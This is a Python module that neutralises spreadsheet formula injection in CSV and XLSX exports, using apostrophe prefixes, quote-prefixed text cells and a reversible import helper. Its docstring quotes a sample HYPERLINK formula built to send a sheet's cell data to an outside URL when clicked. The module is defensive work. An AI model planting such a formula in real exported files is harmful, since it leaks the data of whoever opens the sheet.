"""Spreadsheet output shared by every CSV/XLSX exporter: no cell is ever run as a formula.

A spreadsheet runs a cell that starts with ``= + - @`` (also after leading spaces), or with a
tab or carriage return, as a formula: a staff name ``=HYPERLINK("http://…?leak="&A2,"คลิก")``
would send the sheet's data away when clicked. Every exporter writes through these helpers:

- CSV: such a value gets a leading apostrophe (``'=HYPERLINK(…``), the OWASP advice. So does
  a value that already starts with apostrophes before such a character (``'=1`` typed as is
  is written ``''=1``): the import undoes exactly one apostrophe before such a value
  (:func:`csv_value`, used by service/csv_input.py), so export then import gives back every
  value as it was, and an apostrophe the export did not add (``'0812``, ``'-5``) stays.
- XLSX: the value is written unchanged as a *text* cell with ``quotePrefix`` set (what Excel
  does when you type an apostrophe), never as a formula.

Plain numbers ("-5", "+66 42 000 123" is not one) and a lone "-" are not formulas and are
left alone.
"""

from __future__ import annotations

import csv
import io
import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)*\Z")


def is_dangerous(value: object) -> bool:
    """Whether a spreadsheet would run ``value`` (a str) as a formula."""
    if not isinstance(value, str) or not value:
        return False
    if value[0] in TRIGGERS:
        pass
    else:
        stripped = value.lstrip(" \u00a0\u3000")
        if not stripped or stripped[0] not in TRIGGERS:
            return False
    core = value.strip()
    return not (core == "-" or _NUMBER.match(core))


def _protected(value: object) -> bool:
    """Whether the CSV export puts an apostrophe before ``value``."""
    return isinstance(value, str) and is_dangerous(value.lstrip("'"))


def csv_cell(value: object) -> object:
    """A value safe to write to a CSV cell."""
    return "'" + value if _protected(value) else value


def csv_value(cell: str) -> str:
    """A CSV cell as read back: the inverse of :func:`csv_cell` (``csv_value(csv_cell(v)) == v``
    for every string): the apostrophe is removed only where the export adds one."""
    return cell[1:] if cell.startswith("'") and _protected(cell[1:]) else cell


def csv_bytes(rows, bom: bool = True) -> bytes:
    """Rows as CSV (UTF-8, with a BOM for Excel by default), every cell neutralised."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    data = buf.getvalue().encode("utf-8")
    return (b"\xef\xbb\xbf" + data) if bom else data


def set_cell(ws, row: int, column: int, value: object):
    """Set one XLSX cell; a dangerous string becomes a quote-prefixed text cell."""
    cell = ws.cell(row=row, column=column)
    cell.value = _cleaned(value)
    neutralise(cell)
    return cell


def neutralise(cell) -> None:
    """Make one written XLSX cell plain text if a spreadsheet would run it."""
    if cell.data_type == "f" or is_dangerous(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def _cleaned(value: object) -> object:
    """Control characters an XLSX cannot hold (saved before the model refused them) are shown
    as ``\\x1b``, instead of failing the whole export."""
    if isinstance(value, str) and _XLSX_ILLEGAL.search(value):
        return _XLSX_ILLEGAL.sub(lambda m: f"\\x{ord(m.group(0)):02x}", value)
    return value


def append_row(ws, values) -> int:
    """``ws.append`` that never writes a formula. Returns the new row's number."""
    values = [_cleaned(v) for v in values]
    ws.append(values)
    row = ws.max_row
    for col in range(1, len(values) + 1):
        neutralise(ws.cell(row=row, column=col))
    return row


def neutralise_sheet(ws) -> None:
    """Neutralise every cell of a sheet filled by other code (a last line of defence)."""
    for row in ws.iter_rows():
        for cell in row:
            if cell.value is not None:
                neutralise(cell)
